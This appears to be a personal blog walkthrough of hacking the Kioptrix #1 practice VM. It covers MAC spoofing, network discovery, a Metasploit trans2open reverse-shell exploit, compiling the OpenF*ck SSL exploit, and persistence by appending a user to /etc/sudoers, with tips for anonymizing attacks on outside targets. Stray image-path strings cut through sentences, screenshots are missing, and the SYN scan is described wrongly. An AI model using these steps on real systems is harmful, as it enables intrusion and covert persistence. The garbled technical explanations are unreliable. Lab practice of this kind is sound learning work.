So I’m finally writing up my review of Kioptrix #1 that had been promised for quite some time (last week, in fact). Full disclosure; this is an ongoing hack as I keep on researching the vulnerabilities I find more and more exploits that I can run.

What is (are) Kioptrix?

Kioptrix are a few virtual machines (#1-#5) with a bunch of known vulnerabilities in them. The machines can easily be found on VulnHub, here is the link to Kioptrix #1.

The goal of the attack is to gain root access, through using nearly any means; the only thing you can’t do is attempt to hack the actual virtual image or your virtualization software (that you set up here). Anything else is game!

All of the Kioptrix boxes are consideredto be somewhere between entry-intermediate level, so not too challenging even for a complete beginner.

From my research into boxes, however, they seem to be some of the ones that generally are regarded as a good starting point for aspiring penetration testers.

 The attack.

(I am running this attack from my Kali box against Kioptrix #1 on a virtualized LAN on VMWare workstation and all commands I’m showing is run in a terminal!)

As mentioned in my earlier post, I’ve considered a few options, but decided to go follow “TheFive phases of a penetration test” (Reconnaissance, Scanning, Gaining access, Maintaining Access, Covering your tracks).

Each of these steps will be followed by a horizontal line to show that we are done with that step and starting the next. Like such:

Cleaning up our fingerprint (MAC):

If you remember my post, you willremember that a lot of the last step (covering your tracks) could (and should) be done pre-emptively. So before we are going to do any sort of reconnaissance we are going to make some quick changes to our NIC (Network Interface Controller).

One such change will be to change its MAC-address, a unique sequence of letters of numbers (six groups of two hexadecimal digits) that identifies your specific NIC. Each card’s MAC address is enforced by the IEEE, to ensure that they are unique. An interesting side note is that the three first pairs of hexadecimal digits of your MAC address actually is the unique identifier of your NIC’s manufacturer and the following three are your NIC’s actual unique identifier.

This change is fairly straight-foward, but could potentially save us a lot of trouble later on.

First you want to find your NIC’s information, which is simply done by running.It’s important that you note what your NIC’s ID is (usually it’s eth0).

This should give you a comprehensive list of information about your NIC, like your ip-address, default gateway and your MAC-address. If you want to be a bit more fancy you can use grep to get more manageable content.

ifconfig | grep HWaddr

That should only give you your HardWareaddress (your MAC).

Now to actually change the MAC-address (to spoof it, basically), you will have to turn your NIC off. (Note that eth0 might be different for you!).

eth0 down

When you have shut down the network card you simply write this to change the MAC-address. (Note: You can change the address to anythingyou want. The more similar to a legit address, the less likely a defender might realize something actually is happening).

ifconfig eth0 hw ether 00:00:00:00:00:02

After this we simply start the network card again, by running

eth0 up

So if we now run a

ifconfig | grep HWaddr

It will show us the MAC-address that we manually inserted. This way we are slightly more anonymous.

Another thing you might want to do if you are attacking a web application is to use “The Onion Router” (Commonly referred to as TOR) to route your attack through proxies and eventually an exit node. This should keep you quite anonymous when attacking a target outside of your network.After we are done with the quick, pre-emptive meassures we can start with the actual attack.

First we want to do some reconnaissance to find out more about the target. Remember, in an actual live scenario reconnaissance might be a lot more than just figuring out what the target’s IP-address is; it might involve social engineering, googling to find out more about the infrastructure of the target (what sort of servers they are using), finding out what sort of devices are on their subnet etc etc.

In this case we know quite a lot about the target already; we know that it’s on the same subnet (remember we created a virtual lan which both our devices are running on!), we know it has quite a few known vulnerabilities, we know it runs a linux-based system. But what we don’t know (and most importantly what we need to know) is what the target’s ip-address is.

We can find this out by using netdiscover in your terminal. What this does is that it sends out an ARP (Address Resolution Protocol) request to all the MAC addresses on the network and will mapthe responses to IP-addresses. (Note: The packet (or frame) will include your MAC address, so it’s important to note that you want that to be disguised!)

The netdiscover command will then display all the machines that are on your network (your phone, tablet, your physical machine and more importantly your target). It’s easy to get confused if you are running two virtual machines (like me), since you will get two different IP-addresses associated with VMware, Inc.But that simply remedied by running a ping followed by the target’s IP to check if you get a response, or by checking your own IP by running another ifconfig. Either way you will know which one is your IP and which is Kioptrix!

Here is a sample output of my netdiscover:


So at this point we know what the target’s IP is. Next up is scanning for vulnerabilties.

After looking at the available machine we can find out which one is the target, in my case


Following the above sample we will run a nmap to find out more about what ports might be open and what might be running on said ports. Nmap is a seriously important tool in our arsenal, so I really suggest you learn as much as you can about it, either by running man nmap in yourbrowser or checking out this website:

The command we are going to run this time is

nmap -sS -A -n

To help you understand this better we are using these options:

  • -sS

Considered a stealth scan. What it basically does is that it sends a TCP-request to the target. When receiving a ACK (acknowledge) response from the server it sends a RES (Abort) instead of a normal SYNACK response. This hopefully does not show up on any significant logs.

  • -A

This enables some extra output, like OS detection, version detection, script scanning and traceroute. Basically it checks to find additional information about what services might be running under the port and checks the OS etc. of anything it hits on the route to the target IP (in our case nothing is between target and attacker, though).

  • -nSimply disables DNS resolution which might be on by default.

This should hopefully show you something like this:


We now know there are a bunch of open ports and we also know what services are running under each port. This conclude the scanning part of our attack.

Gaining access:

Since I have very limited experience with vulnerability research I didn’t really know what services were vulnerable, so I started googling the services and their versions.

Following parts will show a fewdifferent exploits and how to run them. Don’t get confused by the horizontal lines as they are used to show the different exploits as well as a marker between the steps!

The SMB (Samba) exploit:

I quickly found that the service running under port 139 (samba) was seriously vulnerable and decided to attack that. (Note: Samba is very similar to FTP / NFS, it’s basically a file-sharing system between Linux and Windows).

So if we start Metasploitable (msf)  we should be able to find some samba exploits:

msf > use exploit/linux/samba/
use exploit/linux/samba/chain_reply          use exploit/linux/samba/setinfopolicy_heap
use exploit/linux/samba/lsa_transnames_heap  use exploit/linux/samba/trans2open
msf > use exploit/linux/samba/trans2open
msf  exploit(trans2open) > show options

Module options (exploit/linux/samba/trans2open):

   Name   Current Setting  Required  Description
   ----   ---  ---  ---
   RHOST                   yes       The target address
   RPORT  139              yes       The target port

Exploit target:

   Id  Name
   --  ----
   0   Samba 2.2.x - Bruteforce

To briefly explain what’s happening here is that I’ve opened up msf in my terminal to check what known vulnerabilities (exploits) exist for samba under Linux, as we know the serviceis running under a Linux host (Redhat).

After we have found our exploit (trans2open) in this case, we will have to set the RHOST (the target) –, the LHOST (the attacker – us) –, the payload (our exploit) – shell_reverse_tcp. All in all it should look something likethis:


The first two steps is basically just us setting up the target machine we are running the exploit on ( The strikethrough lines will be the IP of your attacking machine.

So, at this point we have gained root access to the machine.

The open_f*ck exploit

This exploit is a bit more technical and will involve some basic c-programming.

It’s also worth noting that this exploit requires you to compile (see later) the code in a sub v.1 version of libssl. This can be fixedby using this command in your terminal (basically overwriting your current version of libssl with a compatibile one):

apt-get installlibssl1.0-dev

When you have made sure you have that package you can proceed.

After scanning using nmap we can see that an instance of Apache is running under port 443. A quick Google search on Apache 1.3.20 will give you a lot of possible vulnerabilities; additionally if you search for the opensslversion (2.8.4) that it’s running you will find even more! One such exploit is the open_f*ck exploit, a c-program that exploits the remote buffer overflow that our target is vulnerable. However, the program is old. So we need to update it slightly:

1. We need to add some more relevant headers to the file, as the libraries are old


2. We also need to update a URLin the code as the current link is dead

Search for wget and change the URL from


3. Then we need to install a new library

Open a terminal and write (Note: This might NOT be necessary, depending on your libssl version!)

apt-get install libssl-dev

4. Finally we are changing two declarations in the code

Find line 961. It should look like this:unsigned char *p, *end;

Change it by adding const to:

const unsigned char *p, *end;

At this point you should be able to compile your exploit with gcc:

gcc -o pwn 764.c -lcrypto

So we now have theexploit compiled in pwn. The next step is to run it:

root@kali:~# ./pwn

* OpenF**k v3.0.32-root priv8 by SPABAM based on openssl-too-open *
* by SPABAM with code of Spabam – LSD-pl – SolarEclipse – CORE *
* #hackarena *
* TNX Xanthic USG #SilverLords #BloodBR #isotk #highsecure #uname *
* #ION #delirium #nitr0x #coder #root #endiabrad0s #NHC #TechTeam *
* #pinchadoresweb HiTechHate DigitalWrapperz P()W GATButtP!rateZ *

: Usage: ./pwn target box [port] [-c N]

target –supported box eg: 0x00
box – hostname or IP address
port – port for ssl connection
-c open N connections. (use range 40-50 if u dont know)

You will be getting A LOT more text than this, but I’ve decided to redact this as there simply is no reason to show it. We know that our target is a Redhat Linux distro, that it’s running Apache and that Apache’s version is 1.3.20, so we find a matching target exploit in the redacted list – in our case 0x6b.

So at this point we know everything we need to know – the target’s IP, the vulnerable port and what target exploit we will be running. So let’s try it!


Maintaining Access:

So, we have access to the machine. But how do we maintain persistent access to the machine? It turns out it’s not as straight-forward as you’d initially think.

Usually when running on a Linux distro you would run a useradd command to add your user. But this command wasn’t found on this distro, but it should comebundled with Redhat. So after some Googling I foundthat it might be an issue with Pathing not having been set up. This is what I used to set it up:

export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin

I then ran a man useradd to ensure that it was indeed setup and got the full manual for it – meaning we got it working!

Then we run

useradd jbk passwd pwn

and add my user to the sudoers list with

echo "jbk ALL=(ALL) ALL" >> /etc/sudoers.

BAM! we now havepersistent access to the machine!